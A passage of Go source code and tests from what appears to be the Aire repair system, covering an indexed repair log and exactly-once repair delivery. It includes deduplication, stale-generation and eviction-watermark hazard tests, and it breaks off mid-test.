	writers  map[vdb.Key][]Ref
	scanners map[string][]Ref
	indexed  map[*Record]*indexedState
	totalOps int // sum of len(Reads)+len(Scans)+len(Writes) over all records

	// sink observes every mutation for write-ahead logging (see wal.go).
	sink func(Change)

	compress    bool
	sampleEvery int64
	rawBytes    int64 // cumulative raw JSON size of all records
	samples     int64
	sampleRaw   int64 // raw bytes of the compression-sampled records
	sampleGz    int64 // gzip bytes of the compression-sampled records
}

// New returns an empty log. If compress is true, per-record size accounting
// reports gzip-compressed JSON, matching the paper's Table 4 methodology
// ("per-request storage required for Aire's logs (compressed)").
// Compression happens off the request's critical path in a real deployment,
// so the log gzips only every 16th record and scales the raw size by the
// observed compression ratio; use SetSampleRate(1) for exact accounting.
func New(compress bool) *Log {
	return &Log{
		byID:        make(map[string]*Record),
		respIdx:     make(map[string]callPos),
		calls:       make(map[string][]callSite),
		readers:     make(map[vdb.Key][]Ref),
		writers:     make(map[vdb.Key][]Ref),
		scanners:    make(map[string][]Ref),
		indexed:     make(map[*Record]*indexedState),
		compress:    compress,
		sampleEvery: 16,
	}
}

// SetSampleRate controls how often a record is actually gzipped for size
// accounting (1 = every record).
func (l *Log) SetSampleRate(n int64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if n < 1 {
		n = 1
	}
	l.sampleEvery = n
}

// Append adds a record. Records may arrive with any timestamp (repair
// creates requests in the past); ordering is maintained by insertion.
func (l *Log) Append(r *Record) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if _, dup := l.byID[r.ID]; dup {
		return fmt.Errorf("repairlog: duplicate record id %s", r.ID)
	}
	l.nextSeq++
	r.seq = l.nextSeq
	l.byID[r.ID] = r
	i := sort.Search(len(l.order), func(i int) bool { return l.order[i].TS > r.TS })
	l.order = append(l.order, nil)
	copy(l.order[i+1:], l.order[i:])
	l.order[i] = r
	if err := l.indexLocked(r); err != nil {
		// A colliding Aire-Response-Id would corrupt the O(1) respIdx
		// lookup; refuse the record entirely rather than index it half-way.
		l.unindexLocked(r)
		l.order = append(l.order[:i], l.order[i+1:]...)
		delete(l.byID, r.ID)
		return err
	}
	l.accountSize(r)
	if l.sink != nil {
		l.emitLocked(Change{Kind: "append", Record: r.Clone()})
	}
	return nil
}

// searchRefs returns the first index in refs at or after position (ts, seq).
func searchRefs(refs []Ref, ts, seq int64) int {
	return sort.Search(len(refs), func(i int) bool {
		if refs[i].TS != ts {
			return refs[i].TS > ts
		}
		return refs[i].Seq >= seq
	})
}

// insertRef adds the record's Ref to a sorted index list (no-op if the
// record is already present — a record reading the same key twice indexes
// once).
func insertRef(refs []Ref, r *Record) []Ref {
	i := searchRefs(refs, r.TS, r.seq)
	if i < len(refs) && refs[i].Rec == r {
		return refs
	}
	refs = append(refs, Ref{})
	copy(refs[i+1:], refs[i:])
	refs[i] = Ref{Rec: r, TS: r.TS, Seq: r.seq}
	return refs
}

// removeRef drops the record's Ref from a sorted index list.
func removeRef(refs []Ref, r *Record) []Ref {
	i := searchRefs(refs, r.TS, r.seq)
	if i < len(refs) && refs[i].Rec == r {
		refs = append(refs[:i], refs[i+1:]...)
	}
	return refs
}

// indexedState remembers exactly what indexLocked inserted for a record, so
// unindexLocked can remove it even after the record was rewritten in place
// (re-execution mutates a record's Calls and dependency slices directly and
// only then calls Resync).
type indexedState struct {
	respIDs     []string
	callTargets []string
	readKeys    []vdb.Key
	writeKeys   []vdb.Key
	scanModels  []string
	ops         int
}

// indexLocked adds the record's calls and dependencies to the secondary
// indexes and remembers what was inserted. A response-ID collision (the
// RespID is already mapped to another call) leaves the existing mapping in
// place and is reported in the returned error; everything else is indexed
// regardless, so unindexLocked always reverses the insert. Caller holds mu.
func (l *Log) indexLocked(r *Record) error {
	var idxErr error
	st := &indexedState{ops: len(r.Reads) + len(r.Scans) + len(r.Writes)}
	for i, c := range r.Calls {
		if c.RespID != "" {
			if pos, taken := l.respIdx[c.RespID]; taken {
				if pos.rec != r || pos.idx != i {
					err := fmt.Errorf("repairlog: response-id collision: %s already names call %d of record %s (now also claimed by call %d of record %s)",
						c.RespID, pos.idx, pos.rec.ID, i, r.ID)
					if idxErr == nil {
						idxErr = err
					}
				}
			} else {
				l.respIdx[c.RespID] = callPos{rec: r, idx: i}
				st.respIDs = append(st.respIDs, c.RespID)
			}
		}
		if c.RemoteReqID != "" {
			sites := l.calls[c.Target]
			j := sort.Search(len(sites), func(j int) bool {
				s := sites[j]
				if s.ts != r.TS {
					return s.ts > r.TS
				}
				if s.seq != r.seq {
					return s.seq > r.seq
				}
				return s.idx >= i
			})
			sites = append(sites, callSite{})
			copy(sites[j+1:], sites[j:])
			sites[j] = callSite{ts: r.TS, seq: r.seq, idx: i, remoteID: c.RemoteReqID}
			l.calls[c.Target] = sites
			st.callTargets = append(st.callTargets, c.Target)
		}
	}
	for _, d := range r.Reads {
		l.readers[d.Key] = insertRef(l.readers[d.Key], r)
		st.readKeys = append(st.readKeys, d.Key)
	}
	for _, d := range r.Writes {
		l.writers[d.Key] = insertRef(l.writers[d.Key], r)
		st.writeKeys = append(st.writeKeys, d.Key)
	}
	for _, d := range r.Scans {
		l.scanners[d.Model] = insertRef(l.scanners[d.Model], r)
		st.scanModels = append(st.scanModels, d.Model)
	}
	l.totalOps += st.ops
	l.indexed[r] = st
	return idxErr
}

// unindexLocked removes everything indexLocked inserted for the record,
// consulting the remembered state rather than the record itself (which may
// already hold rewritten dependencies). Caller holds mu.
func (l *Log) unindexLocked(r *Record) {
	st := l.indexed[r]
	if st == nil {
		return
	}
	delete(l.indexed, r)
	for _, respID := range st.respIDs {
		if pos, ok := l.respIdx[respID]; ok && pos.rec == r {
			delete(l.respIdx, respID)
		}
	}
	for _, target := range st.callTargets {
		sites := l.calls[target]
		// The record's call sites are contiguous at (ts, seq); drop the
		// whole run once (subsequent targets of the same record find it
		// already gone).
		j := sort.Search(len(sites), func(j int) bool {
			s := sites[j]
			if s.ts != r.TS {
				return s.ts > r.TS
			}
			return s.seq >= r.seq
		})
		k := j
		for k < len(sites) && sites[k].ts == r.TS && sites[k].seq == r.seq {
			k++
		}
		if k > j {
			sites = append(sites[:j], sites[k:]...)
			if len(sites) == 0 {
				delete(l.calls, target)
			} else {
				l.calls[target] = sites
			}
		}
	}
	for _, key := range st.readKeys {
		if refs := removeRef(l.readers[key], r); len(refs) == 0 {
			delete(l.readers, key)
		} else {
			l.readers[key] = refs
		}
	}
	for _, key := range st.writeKeys {
		if refs := removeRef(l.writers[key], r); len(refs) == 0 {
			delete(l.writers, key)
		} else {
			l.writers[key] = refs
		}
	}
	for _, model := range st.scanModels {
		if refs := removeRef(l.scanners[model], r); len(refs) == 0 {
			delete(l.scanners, model)
		} else {
			l.scanners[model] = refs
		}
	}
	l.totalOps -= st.ops
}

func (l *Log) accountSize(r *Record) {
	b, err := json.Marshal(r)
	if err != nil {
		return
	}
	l.rawBytes += int64(len(b))
	if l.compress && l.samples%l.sampleEvery == 0 {
		var cw countingWriter
		zw := gzPool.Get().(*gzip.Writer)
		zw.Reset(&cw)
		zw.Write(b)
		zw.Close()
		gzPool.Put(zw)
		l.sampleRaw += int64(len(b))
		l.sampleGz += cw.n
	}
	l.samples++
}

// gzPool recycles gzip writers: their ~1 MB of internal tables dominate the
// logging path if allocated per record.
var gzPool = sync.Pool{
	New: func() any {
		zw, _ := gzip.NewWriterLevel(io.Discard, gzip.BestSpeed)
		return zw
	},
}

type countingWriter struct{ n int64 }

func (w *countingWriter) Write(p []byte) (int, error) {
	w.n += int64(len(p))
	return len(p), nil
}

// Get returns the record with the given ID.
func (l *Log) Get(id string) (*Record, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	r, ok := l.byID[id]
	return r, ok
}

// Update applies fn to the record with the given ID under the log's lock.
// The callback may freely rewrite the record's calls and dependencies
// (re-execution rewrites Calls[].RespID and RemoteReqID, cancel clears the
// dependency slices); the secondary indexes are resynchronized around it.
func (l *Log) Update(id string, fn func(*Record)) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	r, ok := l.byID[id]
	if !ok {
		return fmt.Errorf("repairlog: no record %s", id)
	}
	l.unindexLocked(r)
	fn(r)
	idxErr := l.indexLocked(r)
	if l.sink != nil {
		l.emitLocked(Change{Kind: "update", Record: r.Clone()})
	}
	return idxErr
}

// Resync re-derives the secondary index entries of a record that was
// mutated in place. The repair engine's re-execution writes a record's
// Reads/Scans/Writes/Calls directly (the handler runs between reading the
// old state and committing the new, so it cannot run inside Update's
// critical section); it must call Resync(id) once the rewrite is complete.
// The caller is responsible for excluding concurrent log access across the
// whole rewrite (warp holds the service lock).
func (l *Log) Resync(id string) error {
	return l.Update(id, func(*Record) {})
}

// From returns the records with TS >= ts, oldest first.
func (l *Log) From(ts int64) []*Record {
	l.mu.RLock()
	defer l.mu.RUnlock()
	i := sort.Search(len(l.order), func(i int) bool { return l.order[i].TS >= ts })
	return append([]*Record(nil), l.order[i:]...)
}

// All returns every record, oldest first.
func (l *Log) All() []*Record {
	return l.From(0)
}

// Len returns the number of records.
func (l *Log) Len() int {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return len(l.order)
}

// FindByCallRespID locates the record containing the outgoing call that
// assigned the given Aire-Response-Id, along with the call's index. It is
// an O(1) map lookup; it runs on the hot incoming path for every
// replace_response delivery and every replace/create acknowledgment.
func (l *Log) FindByCallRespID(respID string) (*Record, int, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	pos, ok := l.respIdx[respID]
	if !ok {
		return nil, 0, false
	}
	return pos.rec, pos.idx, true
}

// FindByCallRespIDLinear is the pre-index reference implementation (scan
// every call of every record), retained for the randomized equivalence
// tests and the before/after benchmarks.
func (l *Log) FindByCallRespIDLinear(respID string) (*Record, int, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	for _, r := range l.order {
		for i, c := range r.Calls {
			if c.RespID == respID {
				return r, i, true
			}
		}
	}
	return nil, 0, false
}

// NeighborCalls returns the Aire-Request-Ids (as assigned by the peer) of
// the latest call to target strictly before ts and the earliest call at or
// after ts. They anchor a create repair's before_id/after_id (§3.1): the
// client orders the new request relative to messages it itself exchanged
// with the service. The per-target call timeline answers both neighbors
// with one binary search.
func (l *Log) NeighborCalls(target string, ts int64) (beforeID, afterID string) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	sites := l.calls[target]
	i := sort.Search(len(sites), func(i int) bool { return sites[i].ts >= ts })
	if i > 0 {
		beforeID = sites[i-1].remoteID
	}
	if i < len(sites) {
		afterID = sites[i].remoteID
	}
	return beforeID, afterID
}

// NeighborCallsLinear is the pre-index reference implementation (walk the
// whole timeline), retained for the randomized equivalence tests and the
// before/after benchmarks.
func (l *Log) NeighborCallsLinear(target string, ts int64) (beforeID, afterID string) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	for _, r := range l.order {
		for _, c := range r.Calls {
			if c.Target != target || c.RemoteReqID == "" {
				continue
			}
			if r.TS < ts {
				beforeID = c.RemoteReqID
			} else if afterID == "" {
				afterID = c.RemoteReqID
				return beforeID, afterID
			}
		}
	}
	return beforeID, afterID
}

// RefOf returns the record's timeline reference.
func (l *Log) RefOf(id string) (Ref, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	r, ok := l.byID[id]
	if !ok {
		return Ref{}, false
	}
	return Ref{Rec: r, TS: r.TS, Seq: r.seq}, true
}

// ReadersOf returns the records holding a read dependency on key strictly
// after timeline position (ts, seq), in timeline order. The repair engine
// uses it to visit only the readers of a rolled-back key instead of the
// whole timeline; the strict bound matters for records sharing a
// timestamp — a same-TS record ordered *before* the mutating record on the
// timeline already passed its dependency check against the pre-mutation
// store, exactly as a full walk would have.
func (l *Log) ReadersOf(key vdb.Key, ts, seq int64) []Ref {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return refsAfter(l.readers[key], ts, seq)
}

// WritersOf returns the records holding a write dependency on key strictly
// after timeline position (ts, seq), in timeline order (the rollback-redo
// candidates).
func (l *Log) WritersOf(key vdb.Key, ts, seq int64) []Ref {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return refsAfter(l.writers[key], ts, seq)
}

// ScannersOf returns the records holding a scan dependency on model
// strictly after timeline position (ts, seq), in timeline order.
func (l *Log) ScannersOf(model string, ts, seq int64) []Ref {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return refsAfter(l.scanners[model], ts, seq)
}

// refsAfter copies the tail of a sorted Ref list strictly after (ts, seq).
func refsAfter(refs []Ref, ts, seq int64) []Ref {
	i := searchRefs(refs, ts, seq+1)
	if i == len(refs) {
		return nil
	}
	return append([]Ref(nil), refs[i:]...)
}

// TotalModelOps returns the total model operations (reads + scans + writes)
// recorded across all records — Table 5's denominator — maintained
// incrementally so repair does not walk the log to report totals.
func (l *Log) TotalModelOps() int {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return l.totalOps
}

// IndexBytes estimates the memory footprint of the log's secondary index
// layer: the respID→call map, the per-target call timelines, the inverted
// read-dependency index (readers/writers per key, scanners per model), and
// the per-record indexed-state bookkeeping that keeps them coherent under
// Update/Resync/GC. Table 4's log accounting (raw/compressed JSON bytes)
// ignores this overhead — roughly three 16–24 byte slots per recorded
// dependency — so storage-cost claims can now include it (ROADMAP: "index
// memory is unaccounted"). Fixed per-slot overheads approximate Go's map
// and slice costs; this is an estimate, not allocator truth.
func (l *Log) IndexBytes() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	const (
		refSize  = 24 // Ref: pointer + TS + Seq
		strHdr   = 16 // string header
		sliceHdr = 24 // slice header
	)
	var n int64
	for respID := range l.respIdx {
		n += int64(len(respID)) + strHdr + 16 // callPos: pointer + index
	}
	for target, sites := range l.calls {
		n += int64(len(target)) + strHdr + sliceHdr
		for _, s := range sites {
			n += 32 + int64(len(s.remoteID)) + strHdr // callSite: ts, seq, idx, remoteID
		}
	}
	keyRefs := func(m map[vdb.Key][]Ref) {
		for key, refs := range m {
			n += int64(len(key.Model)+len(key.ID)) + 2*strHdr + sliceHdr
			n += int64(len(refs)) * refSize
		}
	}
	keyRefs(l.readers)
	keyRefs(l.writers)
	for model, refs := range l.scanners {
		n += int64(len(model)) + strHdr + sliceHdr
		n += int64(len(refs)) * refSize
	}
	for _, st := range l.indexed {
		n += 8 + 5*sliceHdr + 8 // map slot + indexedState headers + ops
		for _, s := range st.respIDs {
			n += int64(len(s)) + strHdr
		}
		for _, s := range st.callTargets {
			n += int64(len(s)) + strHdr
		}
		for _, k := range st.readKeys {
			n += int64(len(k.Model)+len(k.ID)) + 2*strHdr
		}
		for _, k := range st.writeKeys {
			n += int64(len(k.Model)+len(k.ID)) + 2*strHdr
		}
		for _, s := range st.scanModels {
			n += int64(len(s)) + strHdr
		}
	}
	return n
}

// TSOf returns the timestamp of the record with the given ID (0, false if
// absent or garbage-collected).
func (l *Log) TSOf(id string) (int64, bool) {
	l.mu.RLock()
	defer l.mu.RUnlock()
	r, ok := l.byID[id]
	if !ok {
		return 0, false
	}
	return r.TS, true
}

// GC discards records with TS < beforeTS (§9). After GC, repairs that name a
// discarded request report the service as permanently unavailable.
func (l *Log) GC(beforeTS int64) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	n := l.gcLocked(beforeTS)
	l.emitLocked(Change{Kind: "gc", BeforeTS: beforeTS})
	return n
}

func (l *Log) gcLocked(beforeTS int64) int {
	if beforeTS > l.gcBefore {
		l.gcBefore = beforeTS
	}
	i := sort.Search(len(l.order), func(i int) bool { return l.order[i].TS >= beforeTS })
	for _, r := range l.order[:i] {
		delete(l.byID, r.ID)
		l.unindexLocked(r)
	}
	l.order = append([]*Record(nil), l.order[i:]...)
	return i
}

// GCBefore returns the garbage-collection horizon (0 if GC never ran).
func (l *Log) GCBefore() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return l.gcBefore
}

// AppBytes returns the cumulative (compressed, if enabled) encoded size of
// all records appended, for Table 4's per-request log storage accounting.
// With compression enabled, the value is the raw size scaled by the
// compression ratio observed on sampled records.
func (l *Log) AppBytes() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	if !l.compress || l.sampleRaw == 0 {
		return l.rawBytes
	}
	return int64(float64(l.rawBytes) * float64(l.sampleGz) / float64(l.sampleRaw))
}

// Samples returns how many records have contributed to AppBytes.
func (l *Log) Samples() int64 {
	l.mu.RLock()
	defer l.mu.RUnlock()
	return l.samples
}
