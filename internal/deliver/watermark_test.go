package deliver

import (
	"fmt"
	"testing"
)

// Hazard tests for the eviction watermark (the ROADMAP dedup-inbox
// follow-up): the watermark assumes every sequence below it was applied.
// Two ways a sequence below the watermark can be unapplied:
//
//  1. The delivery reached the inbox, its apply failed, and the entry was
//     rolled back (the sender parks the message Held awaiting Retry).
//     Closed here: Rollback records the sequence as a hole, and the
//     watermark path re-applies holes instead of swallowing them.
//
//  2. The delivery never reached the inbox at all (dropped in the network
//     before the first Begin) and the sender parked it without backoff.
//     The inbox has no evidence the sequence exists, so the watermark
//     still swallows its eventual gen-0 retry — bounded by InboxCap:
//     it takes more than InboxCap later committed deliveries from the
//     same origin to advance the watermark past the gap.

const testCap = 8

// fill commits n fresh deliveries from origin with ascending sequences
// starting at seq, returning the next unused sequence.
func fill(t *testing.T, ib *Inbox, origin string, seq uint64, n int) uint64 {
	t.Helper()
	for i := 0; i < n; i++ {
		id := fmt.Sprintf("%s-dlv-%d", origin, seq)
		if d, _ := ib.Begin(origin, id, 0, false); d != Apply {
			t.Fatalf("fill %s: got %v, want Apply", id, d)
		}
		ib.Commit(origin, id, 0, "ok", int64(seq))
		seq++
	}
	return seq
}

// TestEvictionWatermarkHoleRetry: a Held, never-applied delivery (begun,
// rolled back) interleaved with far more than InboxCap later deliveries
// from the same origin is still re-applied on Retry — the hole outlives
// the watermark sweeping past its sequence.
func TestEvictionWatermarkHoleRetry(t *testing.T) {
	ib := NewInbox(testCap)
	held := "s0-dlv-100"

	// The delivery arrives, its apply fails (say, authorization), the
	// sender parks it Held.
	if d, _ := ib.Begin("s0", held, 0, false); d != Apply {
		t.Fatalf("first arrival: got %v, want Apply", d)
	}
	ib.Rollback("s0", held, 0)

	// Life goes on: several caps' worth of later deliveries from the same
	// origin evict everything and push the watermark far past 100.
	fill(t, ib, "s0", 101, 4*testCap)

	// The administrator retries the Held message (same content, gen 0).
	// Without the hole this is the lost-repair misread: Duplicate.
	d, _ := ib.Begin("s0", held, 0, false)
	if d != Apply {
		t.Fatalf("retry of a never-applied delivery after eviction: got %v, want Apply", d)
	}
	ib.Commit("s0", held, 0, "ok", 1)

	// Once committed, the delivery deduplicates normally again.
	if d, _ := ib.Begin("s0", held, 0, false); d != Duplicate {
		t.Fatalf("after the retry committed: got %v, want Duplicate", d)
	}
}

// TestEvictionWatermarkHoleSurvivesRestart: holes are part of the
// persisted dedup memory — a crash between the rollback and the Retry
// must not resurrect the misread.
func TestEvictionWatermarkHoleSurvivesRestart(t *testing.T) {
	ib := NewInbox(testCap)
	held := "s0-dlv-100"
	if d, _ := ib.Begin("s0", held, 0, false); d != Apply {
		t.Fatal("setup: first arrival not Apply")
	}
	ib.Rollback("s0", held, 0)
	fill(t, ib, "s0", 101, 2*testCap)

	restored := NewInbox(testCap)
	restored.Restore(ib.Dump())
	if d, _ := restored.Begin("s0", held, 0, false); d != Apply {
		t.Fatalf("retry after restore: got %v, want Apply", d)
	}
}

// TestEvictionWatermarkHoleCrashMidApply: a delivery whose apply is in
// flight at capture time (pending, nothing ever committed) is dumped as a
// hole — the crash interrupted the apply, so after restore its retry must
// re-apply even once the restored watermark has swept past its sequence.
func TestEvictionWatermarkHoleCrashMidApply(t *testing.T) {
	ib := NewInbox(testCap)
	fill(t, ib, "s0", 101, 2*testCap) // watermark already past 100
	inflight := "s0-dlv-100"
	if d, _ := ib.Begin("s0", inflight, 1, false); d != Apply {
		t.Fatal("setup: in-flight delivery not Apply")
	}
	// Crash here: Begin reserved, never Committed or Rolled back.
	restored := NewInbox(testCap)
	restored.Restore(ib.Dump())
	if d, _ := restored.Begin("s0", inflight, 0, false); d != Apply {
		t.Fatalf("retry of the interrupted apply after restore: got %v, want Apply", d)
	}
}

// TestEvictionWatermarkBound quantifies the residual hazard for a
// delivery the inbox never saw (case 2 above): its gen-0 retry is
// misread as a duplicate exactly when more than InboxCap later
// deliveries from the same origin committed in between — below that
// bound no entry has been evicted, the watermark has not moved, and the
// retry is correctly applied.
func TestEvictionWatermarkBound(t *testing.T) {
	unseen := "s0-dlv-100" // dropped in the network; the inbox never saw it

	// InboxCap later deliveries: nothing evicted, watermark untouched,
	// the late first arrival applies correctly.
	ib := NewInbox(testCap)
	fill(t, ib, "s0", 101, testCap)
	if d, _ := ib.Begin("s0", unseen, 0, false); d != Apply {
		t.Fatalf("with cap interleaved deliveries: got %v, want Apply", d)
	}

	// One more than InboxCap: the oldest entry is evicted, the watermark
	// jumps past the gap, and the unseen delivery's retry is swallowed.
	// This is the documented residual bound (ROADMAP: quantified, not
	// closed — the inbox has no evidence distinguishing "applied and
	// evicted" from "never arrived" for a sequence it holds no state on).
	ib = NewInbox(testCap)
	fill(t, ib, "s0", 101, testCap+1)
	d, _ := ib.Begin("s0", unseen, 0, false)
	if d != Duplicate {
		t.Fatalf("past the bound: got %v, want the documented Duplicate misread", d)
	}
	t.Logf("bound demonstrated: a never-seen delivery's retry is misread as %v only after > InboxCap (=%d) interleaved same-origin deliveries; at or below the bound it applies", d, testCap)

	// A generation-bumped retry (Retry with refreshed credentials) is
	// never swallowed: the watermark vouches only for gen 0.
	if d, _ := ib.Begin("s0", "s0-dlv-99", 1, false); d != Apply {
		t.Fatalf("gen-1 retry past the bound: got %v, want Apply", d)
	}
}

// TestHolePrunedByGC: holes at or below the GC horizon are dropped — the
// Forgotten refusal takes over there, and the holes set must not grow
// without bound.
func TestHolePrunedByGC(t *testing.T) {
	ib := NewInbox(testCap)
	if d, _ := ib.Begin("s0", "s0-dlv-5", 0, false); d != Apply {
		t.Fatal("setup: not Apply")
	}
	ib.Rollback("s0", "s0-dlv-5", 0)
	fill(t, ib, "s0", 6, 3) // committed at ts 6..8
	ib.GC(100)              // horizon past everything committed

	if got := ib.Dump(); len(got) != 1 || len(got[0].Holes) != 0 {
		t.Fatalf("hole survived GC: %+v", got)
	}
	if d, _ := ib.Begin("s0", "s0-dlv-5", 0, false); d != Forgotten {
		t.Fatal("pre-horizon arrival must be refused as Forgotten")
	}
}
