package core

import (
	"fmt"
	"sync"
	"testing"

	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// carrier builds a repair-plane carrier request the way the pump's
// deliverRepairCall does, with explicit exactly-once delivery identity.
func carrier(kind warp.OutKind, targetID string, payload wire.Request, origin, deliveryID string, gen uint64) wire.Request {
	req := wire.NewRequest("POST", "/aire/repair")
	req.Header[wire.HdrRepair] = string(kind)
	if targetID != "" {
		req.Header[wire.HdrRequestID] = targetID
	}
	if kind != warp.OutDelete {
		req.Header[wire.HdrResponseID] = origin + "-resp-test"
		req.Header[wire.HdrNotifierURL] = transport.NotifierURL(origin)
		req.Body = payload.Encode()
	}
	req.Header[wire.HdrDeliveryID] = deliveryID
	req.Header[wire.HdrGeneration] = fmt.Sprintf("%d", gen)
	req.Header[wire.HdrOrigin] = origin
	return req
}

// TestDuplicateCreateReturnsOriginalID is the duplicate-create hazard from
// the receiver's side: a re-delivered create (first response lost) must be
// re-acknowledged with the originally minted synthetic request ID instead
// of minting a second one.
func TestDuplicateCreateReturnsOriginalID(t *testing.T) {
	tb := newTestbed()
	b := tb.add(&kvApp{name: "b"}, DefaultConfig())

	create := carrier(warp.OutCreate, "",
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "v1"),
		"a", "a-dlv-1", 0)

	first, err := tb.bus.Call("a", "b", create)
	if err != nil || !first.OK() {
		t.Fatalf("create: %v %+v", err, first)
	}
	mintedID := first.Header[wire.HdrRequestID]
	if mintedID == "" {
		t.Fatal("create did not return a minted request ID")
	}
	logLen := b.Svc.Log.Len()

	second, err := tb.bus.Call("a", "b", create.Clone())
	if err != nil || !second.OK() {
		t.Fatalf("duplicate create: %v %+v", err, second)
	}
	if got := second.Header[wire.HdrRequestID]; got != mintedID {
		t.Fatalf("duplicate create minted a second request: got %q, want %q", got, mintedID)
	}
	if got := b.Svc.Log.Len(); got != logLen {
		t.Fatalf("duplicate create grew the log: %d -> %d records", logLen, got)
	}
	if got := b.Stats().DupDeliveries; got != 1 {
		t.Fatalf("DupDeliveries = %d, want 1", got)
	}

	// And the hazard is real: with the inbox disabled, the same
	// re-delivery mints a second synthetic request.
	tb2 := newTestbed()
	cfg := DefaultConfig()
	cfg.DisableDedupInbox = true
	b2 := tb2.add(&kvApp{name: "b"}, cfg)
	if _, err := tb2.bus.Call("a", "b", create.Clone()); err != nil {
		t.Fatal(err)
	}
	before := b2.Svc.Log.Len()
	if _, err := tb2.bus.Call("a", "b", create.Clone()); err != nil {
		t.Fatal(err)
	}
	if got := b2.Svc.Log.Len(); got != before+1 {
		t.Fatalf("with dedup disabled, duplicate create should double-mint (log %d -> %d)", before, got)
	}
}

// TestGenBumpedCreateStillDeduplicated: a Retry with refreshed credentials
// bumps the sender's generation, but a create whose first delivery was
// applied (response lost) must still be re-acked with the originally
// minted ID — once-only semantics beat generation monotonicity for mints.
func TestGenBumpedCreateStillDeduplicated(t *testing.T) {
	tb := newTestbed()
	b := tb.add(&kvApp{name: "b"}, DefaultConfig())

	first := carrier(warp.OutCreate, "",
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "v1"),
		"a", "a-dlv-1", 0)
	resp, err := tb.bus.Call("a", "b", first)
	if err != nil || !resp.OK() {
		t.Fatalf("create: %v %+v", err, resp)
	}
	minted := resp.Header[wire.HdrRequestID]
	logLen := b.Svc.Log.Len()

	retried := carrier(warp.OutCreate, "",
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "v1").WithHeader("Authorization", "fresh"),
		"a", "a-dlv-1", 1)
	resp, err = tb.bus.Call("a", "b", retried)
	if err != nil || !resp.OK() {
		t.Fatalf("gen-bumped create redelivery: %v %+v", err, resp)
	}
	if got := resp.Header[wire.HdrRequestID]; got != minted {
		t.Fatalf("gen-bumped create minted a second request: %q, want %q", got, minted)
	}
	if got := b.Svc.Log.Len(); got != logLen {
		t.Fatalf("log grew %d -> %d on gen-bumped create redelivery", logLen, got)
	}
}

// TestStaleGenerationDiscarded is the stale-redelivery hazard from the
// receiver's side: a delayed copy of superseded repair content (an older
// Aire-Generation for the same Aire-Delivery-Id) arriving after the newer
// content was applied must be acknowledged and discarded, not re-applied.
func TestStaleGenerationDiscarded(t *testing.T) {
	tb := newTestbed()
	b := tb.add(&kvApp{name: "b"}, DefaultConfig())

	put := tb.call("b", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "evil"))
	targetID := put.Header[wire.HdrRequestID]

	newer := carrier(warp.OutReplace, targetID,
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "newer"),
		"a", "a-dlv-1", 1)
	if resp, err := tb.bus.Call("a", "b", newer); err != nil || !resp.OK() {
		t.Fatalf("replace gen 1: %v %+v", err, resp)
	}

	// The delayed copy of the superseded content arrives afterwards.
	older := carrier(warp.OutReplace, targetID,
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "older"),
		"a", "a-dlv-1", 0)
	resp, err := tb.bus.Call("a", "b", older)
	if err != nil || !resp.OK() {
		t.Fatalf("stale delivery must still be acknowledged: %v %+v", err, resp)
	}
	if got := string(tb.call("b", wire.NewRequest("GET", "/get").WithForm("key", "k")).Body); got != "newer" {
		t.Fatalf("peer regressed to %q after stale redelivery, want %q", got, "newer")
	}
	if got := b.Stats().StaleDeliveries; got != 1 {
		t.Fatalf("StaleDeliveries = %d, want 1", got)
	}

	// Hazard demonstration: with the inbox disabled, the delayed old
	// content regresses the peer.
	tb2 := newTestbed()
	cfg := DefaultConfig()
	cfg.DisableDedupInbox = true
	tb2.add(&kvApp{name: "b"}, cfg)
	put2 := tb2.call("b", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "evil"))
	target2 := put2.Header[wire.HdrRequestID]
	n2 := carrier(warp.OutReplace, target2,
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "newer"), "a", "a-dlv-1", 1)
	o2 := carrier(warp.OutReplace, target2,
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "older"), "a", "a-dlv-1", 0)
	if resp, err := tb2.bus.Call("a", "b", n2); err != nil || !resp.OK() {
		t.Fatalf("replace gen 1: %v %+v", err, resp)
	}
	if resp, err := tb2.bus.Call("a", "b", o2); err != nil || !resp.OK() {
		t.Fatalf("stale replace: %v %+v", err, resp)
	}
	if got := string(tb2.call("b", wire.NewRequest("GET", "/get").WithForm("key", "k")).Body); got != "older" {
		t.Fatalf("with dedup disabled the stale copy should regress the peer, got %q", got)
	}
}

// TestFailedApplyRollsBackReservation: a gated delivery whose apply fails
// (unknown target → 404) must not poison the inbox — a later delivery of
// the same identity, once the target exists, applies normally.
func TestFailedApplyRollsBackReservation(t *testing.T) {
	tb := newTestbed()
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	bad := carrier(warp.OutReplace, "b-req-999",
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "x"), "a", "a-dlv-1", 0)
	if resp, _ := tb.bus.Call("a", "b", bad); resp.Status != 404 {
		t.Fatalf("replace of unknown request = %d, want 404", resp.Status)
	}

	put := tb.call("b", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "evil"))
	good := carrier(warp.OutReplace, put.Header[wire.HdrRequestID],
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "x"), "a", "a-dlv-1", 0)
	if resp, err := tb.bus.Call("a", "b", good); err != nil || !resp.OK() {
